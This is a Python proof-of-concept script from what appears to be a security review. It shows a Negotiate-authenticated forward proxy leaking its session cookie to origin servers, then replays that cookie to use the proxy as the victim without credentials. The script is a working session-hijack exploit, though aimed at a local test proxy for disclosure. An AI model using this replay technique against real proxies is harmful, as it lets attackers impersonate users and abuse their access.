#!/usr/bin/python3
"""Security review 2: NegotiateSession on a forward proxy hands the
user's session cookie to every origin server the user visits through it.
mod_session_cookie sets the cookie on the proxied response, so the browser
keeps it for the ORIGIN's host and sends it there with its next requests,
which the proxy forwards (Cookie header and all). The origin's owner then
uses the proxy as that user with the cookie alone.

  proxy_session.py PROXY_PORT ORIGIN_URL CCACHE
"""
import base64
import http.client
import os
import sys

import gssapi


def token():
    name = gssapi.Name('HTTP@localhost', gssapi.NameType.hostbased_service)
    ctx = gssapi.SecurityContext(name=name, usage='initiate',
                                 mech=gssapi.OID.from_int_seq('1.3.6.1.5.5.2'))
    return base64.b64encode(ctx.step()).decode()


def proxy_get(port, url, headers):
    c = http.client.HTTPConnection('localhost', port, timeout=30)
    c.request('GET', url, headers=headers)
    r = c.getresponse()
    body = r.read().decode(errors='replace')
    return r, body


def field(body, name):
    for line in body.splitlines():
        if line.startswith(name + '='):
            return line.split('=', 1)[1]
    return ''


def main():
    port, origin, cc = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    os.environ['KRB5CCNAME'] = 'FILE:' + cc
    # 1. the victim's browser: Proxy-Authorization on the first request
    r, body = proxy_get(port, origin, {'Proxy-Authorization': 'Negotiate ' + token()})
    jar = None
    for k, v in r.getheaders():
        if k.lower() == 'set-cookie' and v.startswith('negotiate_session='):
            jar = v.split(';', 1)[0]
    print('victim_logon=%d proxy_user=%s cookie_set=%s' % (
        r.status, field(body, 'HTTP_X_PROXY_USER'), 'yes' if jar else 'no'))
    if not jar:
        return
    # 2. the browser sends the cookie it got with the next request to that
    #    origin; the proxy forwards it: what the origin server receives
    r, body = proxy_get(port, origin, {'Cookie': jar})
    seen = field(body, 'HTTP_COOKIE')
    print('victim_next=%d origin_saw_cookie=%s' % (
        r.status, 'yes' if 'negotiate_session=' in seen else 'no'))
    stolen = [c.strip() for c in seen.split(';') if c.strip().startswith('negotiate_session=')]
    if not stolen:
        return
    # 3. the origin's owner, from elsewhere, with no credentials: control
    #    without the cookie, then with it
    r, body = proxy_get(port, origin, {})
    print('attacker_plain=%d' % r.status)
    r, body = proxy_get(port, origin, {'Cookie': stolen[0]})
    print('attacker_cookie=%d proxy_user=%s' % (r.status, field(body, 'HTTP_X_PROXY_USER')))


if __name__ == '__main__':
    main()
